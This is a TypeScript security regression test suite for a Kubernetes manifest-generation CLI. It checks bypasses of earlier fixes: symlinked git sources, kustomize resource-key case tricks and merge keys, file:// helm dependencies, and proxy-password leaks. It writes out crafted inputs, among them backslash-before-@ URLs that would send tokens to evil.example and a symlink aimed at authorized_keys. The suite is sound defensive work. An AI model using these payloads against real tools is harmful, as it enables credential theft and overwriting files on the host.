/**
 * Second security review: bypasses of the first review's fixes (test/security/review.test.ts),
 * run against the bundled tasks and CLI. Each one fails on the code it was written against.
 */
import { strict as assert } from 'node:assert';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { git as runGit, startGitServer, type GitServer } from '../support/gitServer';
import { tempDir } from '../support/tmp';
import { helm4, kubectl } from '../support/tools';
import { azureDevOpsHosts } from '../../tasks/core/credentials';
import { gitAuthFor } from '../../tasks/core/git';
import { remoteUrl } from '../../tasks/core/git/git';
import { hookEnvironment } from '../../tasks/core/render/install';
import { bundleOnce, runCli } from '../tasks/updateImageTagHelpers';
import { Canary, filesBelow, pushTree, writeTree } from './support';

/** A loopback HTTP server that records every request path. */
async function recordingServer(body = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: fetched\n'): Promise<{ server: Server; url: string; requests: string[]; authorizations: string[] }> {
  const requests: string[] = [];
  const authorizations: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    if (req.headers.authorization) authorizations.push(req.headers.authorization);
    res.setHeader('content-type', 'text/plain');
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, authorizations };
}

const kustomizeHld = (path: string) => `name: root\nsubcomponents:\n  - name: web\n    type: kustomize\n    method: local\n    path: ${path}\n`;
const kubectlPath = () => `${join(kubectl, '..')}:${process.env.PATH ?? ''}`;

describe('security review 2', function () {
  this.timeout(180_000);
  let canary: Canary;
  let server: GitServer;

  before(async function () {
    this.timeout(240_000);
    canary = new Canary();
    [server] = await Promise.all([startGitServer(), bundleOnce()]);
  });

  after(async () => server?.stop());

  describe('git sources', () => {
    // `other:repo` passes isNetworkGitUrl as scp-like ssh, but `git clone` first tries it as a path
    // relative to its working directory: a symlink committed in the HLD under that name clones
    // any repository on the machine (the CLI is run from inside the HLD; the agent's working
    // directory is the sources folder).
    it('an scp-like source that names a symlink in the working directory does not clone a local repository', async () => {
      const other = writeTree(tempDir('review2-otherrepo-'), {
        'component.yaml': 'name: other\ntype: static\nmethod: local\npath: ./s\n',
        's/cm.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: stolen\ndata:\n  k: ${canary.secret}\n`,
      });
      await runGit(['init', '--quiet', '--initial-branch=main', other]);
      await runGit(['add', '-A'], { cwd: other });
      await runGit(['-c', 'user.name=a', '-c', 'user.email=a@example.invalid', 'commit', '--quiet', '-m', 'private'], { cwd: other });
      const hld = writeTree(tempDir('review2-scp-'), {
        'component.yaml': 'name: root\nsubcomponents:\n  - name: w\n    method: git\n    source: "other:repo"\n    version: main\n',
        'other:repo': { link: other },
      });
      await runGit(['init', '--quiet', hld]);
      const output = tempDir('review2-scp-out-');
      const cli = await runCli(['generate', '--hld', '.', '--output', output], {}, { cwd: hld });
      canary.assertNotIn({ ...filesBelow(output), stdout: cli.stdout, stderr: cli.stderr });
      assert.equal(cli.code, 1, cli.stdout + cli.stderr);
    });
  });

  describe('access.yaml tokens travel only over https', () => {
    // tokenMayTravelTo parses the source with WHATWG URL (`\\` is a path separator: host 127.0.0.1),
    // but the URL handed to git is displayUrl's regex rewrite, which drops `127.0.0.1\\@` as user
    // info: git sends the token over plain http to evil.example. The loopback server below plays
    // the network as the http proxy git uses, so no outside address is contacted.
    it('a token is not sent over plain http to another host through a backslash before @', async () => {
      const proxy = await recordingServer('');
      try {
        const source = 'http://127.0.0.1\\@evil.example/x.git';
        const hld = writeTree(tempDir('review2-bs-'), {
          'component.yaml': `name: root\nsubcomponents:\n  - name: w\n    method: git\n    source: ${source}\n`,
          'access.yaml': `${source}: MY_SOURCE_TOKEN\n`,
        });
        await runGit(['init', '--quiet', hld]);
        const cli = await runCli(['generate', '--hld', hld, '--output', tempDir('review2-bs-out-'), '--no-hooks'],
          { MY_SOURCE_TOKEN: 'review2-source-token', http_proxy: proxy.url });
        const leaked = proxy.authorizations.filter((a) => Buffer.from(a.replace(/^basic /i, ''), 'base64').toString().includes('review2-source-token'));
        assert.deepEqual(leaked, [], `the token went over plain http to ${proxy.requests.join(', ')}`);
        assert.equal(cli.code, 1, cli.stdout + cli.stderr);
      } finally {
        proxy.server.close();
      }
    });
  });

  describe('System.AccessToken organisation scoping', () => {
    // Same parser differential as above, for the job's token: credentialAllowedFor sees the host
    // fabrikam.visualstudio.com (WHATWG: `\\` ends the authority), git is given https://evil.example/...
    it('the token is attached only when the host git is given is the organisation\'s', () => {
      const credential = { kind: 'bearer' as const, token: 'job-token', hosts: azureDevOpsHosts('https://dev.azure.com/fabrikam/') };
      const url = 'https://fabrikam.visualstudio.com\\@evil.example/p/_git/r';
      const contacted = new URL(remoteUrl(url, true)).hostname;
      assert.ok(!gitAuthFor(credential, url) || contacted === 'fabrikam.visualstudio.com', `the job's token would be sent to ${contacted}`);
    });
  });

  describe('helm chart dependencies', () => {
    // A chart fetched from a (network) git source declares `repository: file:///<anywhere>`:
    // `helm dependency update` packages that folder of the agent's disk into charts/ and it is rendered.
    it('a chart from a git source cannot pull a chart folder from the agent\'s disk through a file:// dependency', async () => {
      const victim = writeTree(tempDir('review2-victimchart-'), {
        'Chart.yaml': 'apiVersion: v2\nname: victim\nversion: 0.1.0\n',
        'templates/cm.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: victim\ndata:\n  k: ${canary.secret}\n`,
      });
      const source = await pushTree(server, 'review2-chartrepo', {
        'mychart/Chart.yaml': `apiVersion: v2\nname: mychart\nversion: 0.1.0\ndependencies:\n  - name: victim\n    version: 0.1.0\n    repository: "file://${victim}"\n`,
        'mychart/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: mine\n',
      });
      const hld = writeTree(tempDir('review2-dep-'), {
        'component.yaml': `name: root\nsubcomponents:\n  - name: app\n    type: helm\n    method: git\n    source: ${source}\n    path: mychart\n`,
        'access.yaml': `${source}: CHART_REPO_TOKEN\n`,
      });
      await runGit(['init', '--quiet', hld]);
      const output = tempDir('review2-dep-out-');
      const cli = await runCli(['generate', '--hld', hld, '--output', output], { PATH: `${join(helm4, '..')}:${process.env.PATH ?? ''}`, CHART_REPO_TOKEN: server.token });
      canary.assertNotIn({ ...filesBelow(output), stdout: cli.stdout, stderr: cli.stderr });
      assert.equal(cli.code, 1, cli.stdout + cli.stderr);
    });
  });

  describe('hook environment', () => {
    // curl and git accept a proxy without a scheme; WHATWG URL reads `agent:pw@proxy:3128` as the
    // scheme `agent:` with an opaque path, so clearing username/password changes nothing.
    it('strips the proxy password from a proxy URL written without a scheme', () => {
      const env = hookEnvironment({ HTTPS_PROXY: 'agent:proxy-pw-123@proxy.corp:3128', https_proxy: 'agent:proxy-pw-123@proxy.corp:3128' });
      assert.ok(!JSON.stringify(env).includes('proxy-pw-123'), `hooks see the proxy password: ${JSON.stringify(env)}`);
    });
  });

  describe('install markers', () => {
    // placeFromCache checks components/<name> with realPathInside, then writes the marker
    // components/.<name>.source beside it with writeFile, which follows a committed symlink.
    it('the install marker of a git component is not written through a committed symlink to an outside file', async () => {
      const victim = join(tempDir('review2-victim-'), 'authorized_keys');
      writeFileSync(victim, 'ssh-ed25519 AAAA original\n');
      const source = await pushTree(server, 'review2-markerrepo', {
        'component.yaml': 'name: w\ntype: static\nmethod: local\npath: ./s\n',
        's/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: w\n',
      });
      const hld = writeTree(tempDir('review2-marker-'), {
        'component.yaml': `name: root\nsubcomponents:\n  - name: w\n    method: git\n    source: ${source}\n    version: main\n`,
        'access.yaml': `${source}: MARKER_REPO_TOKEN\n`,
        'components/.w.source': { link: victim },
      });
      await runGit(['init', '--quiet', hld]);
      const cli = await runCli(['generate', '--hld', hld, '--output', tempDir('review2-marker-out-')], { MARKER_REPO_TOKEN: server.token });
      assert.equal(readFileSync(victim, 'utf8'), 'ssh-ed25519 AAAA original\n', `a file outside the HLD was overwritten (exit ${cli.code}): ${cli.stdout}${cli.stderr}`);
    });
  });

  describe('kustomize confinement walk', () => {
    // kustomize reads kustomization.yaml through sigs.k8s.io/yaml + encoding/json: field names match
    // case-insensitively, so `Resources:` is kustomize's `resources:` but the walk never looks at it.
    it('does not let `Resources:` (any case) pull a folder outside the HLD', async () => {
      const outside = writeTree(tempDir('review2-kout-'), { 'kustomization.yaml': 'configMapGenerator:\n  - name: leak\n    files: [secret.txt]\n', 'secret.txt': `${canary.secret}\n` });
      const hld = tempDir('review2-k1-');
      writeTree(hld, { 'component.yaml': kustomizeHld('./k'), 'k/kustomization.yaml': `Resources:\n  - ${relative(join(hld, 'k'), outside)}\n` });
      await runGit(['init', '--quiet', hld]);
      const output = tempDir('review2-k1-out-');
      const cli = await runCli(['generate', '--hld', hld, '--output', output], { PATH: kubectlPath() });
      canary.assertNotIn({ ...filesBelow(output), stdout: cli.stdout, stderr: cli.stderr });
      assert.equal(cli.code, 1, cli.stdout + cli.stderr);
    });

    // go-yaml (YAML 1.1) applies merge keys: `<<: {resources: [...]}` is a resources list to kustomize.
    it('does not let resources brought in by a << merge key pull a folder outside the HLD', async () => {
      const outside = writeTree(tempDir('review2-kout-'), { 'kustomization.yaml': 'configMapGenerator:\n  - name: leak\n    files: [secret.txt]\n', 'secret.txt': `${canary.secret}\n` });
      const hld = tempDir('review2-k3-');
      writeTree(hld, { 'component.yaml': kustomizeHld('./k'), 'k/kustomization.yaml': `<<: {resources: [${relative(join(hld, 'k'), outside)}]}\n` });
      await runGit(['init', '--quiet', hld]);
      const output = tempDir('review2-k3-out-');
      const cli = await runCli(['generate', '--hld', hld, '--output', output], { PATH: kubectlPath() });
      canary.assertNotIn({ ...filesBelow(output), stdout: cli.stdout, stderr: cli.stderr });
      assert.equal(cli.code, 1, cli.stdout + cli.stderr);
    });

    it('does not let `RESOURCES:` make the agent fetch a URL', async () => {
      const http = await recordingServer();
      try {
        const hld = writeTree(tempDir('review2-k2-'), { 'component.yaml': kustomizeHld('./k'), 'k/kustomization.yaml': `RESOURCES:\n  - ${http.url}/internal.yaml\n` });
        await runGit(['init', '--quiet', hld]);
        const cli = await runCli(['generate', '--hld', hld, '--output', tempDir('review2-k2-out-')], { PATH: kubectlPath() });
        assert.deepEqual(http.requests, [], 'kustomize fetched a URL named by the HLD');
        assert.equal(cli.code, 1, cli.stdout + cli.stderr);
      } finally {
        http.server.close();
      }
    });
  });
});
